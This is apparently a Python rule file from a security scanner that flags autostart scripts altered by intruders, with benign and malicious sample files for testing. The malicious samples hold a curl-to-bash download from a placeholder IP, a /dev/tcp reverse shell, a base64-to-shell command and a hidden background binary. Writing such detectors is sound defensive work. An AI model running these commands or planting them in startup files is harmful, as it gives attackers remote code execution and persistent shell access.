"""Scripts that start by themselves, as intruders change them."""

from collections.abc import Iterator

from hullmark.checks.declare import file_check
from hullmark.checks.lines import joined
from hullmark.checks.odd_commands import odd
from hullmark.checks.samples import BAR, script
from hullmark.checks.start_scripts import SHELL_STARTS, SYSTEM_STARTS
from hullmark.model import Evidence, File, Severity
from hullmark.model.finding import Kind
from hullmark.model.rule import Confidence


def _bad() -> tuple[File, ...]:
    return (
        script("root/.bashrc", f"(curl -fsSL http://192.0.2.7/x {BAR}| ba{BAR}sh) &"),
        script("etc/rc.local", "#!/bin/sh", "/var/tmp/.d/run &"),  # noqa: S108 - what is looked for
        script("etc/profile.d/a.sh", f"bash -i >& /dev/{BAR}tcp/192.0.2.7/4444 0>&1"),
        script("etc/update-motd.d/99-x", f"echo YQ== | base64 --dec{BAR}ode | s{BAR}h"),
    )


def _good() -> tuple[File, ...]:
    return (
        script(
            "root/.bashrc",
            "# curl http://192.0.2.7/x | sh",
            "export TMPDIR=/var/tmp",
            '[ -s "$HOME/.nvm/nvm.sh" ] && . "$HOME/.nvm/nvm.sh"',
            'alias ip="curl -s https://ip.example | jq ."',
        ),
        script("etc/init.d/web", "#!/bin/sh", "start-stop-daemon --start --exec /usr/sbin/web"),
    )


@file_check(
    id="odd-start-script",
    title="A script that starts by itself does what intruders do",
    kind=Kind.MALWARE,
    severity=Severity.HIGH,
    confidence=Confidence.LIKELY,
    names=(*SHELL_STARTS, *SYSTEM_STARTS),
    bad=_bad,
    good=_good,
    remediation="Find out who changed it. Unless you did, build the image anew.",
    references=(
        "https://attack.mitre.org/techniques/T1546/004/",
        "https://attack.mitre.org/techniques/T1037/004/",
    ),
)
def odd_start_script(file: File) -> Iterator[Evidence]:
    """A line that fetches and runs code, or starts it where it hides, runs with every shell.

    That is how miners, bots and thieves of passwords come back.
    """
    for number, line in joined(file):
        if why := odd(line):
            yield Evidence(at=f"line:{number}", says=f"a start script {why}", line=number)
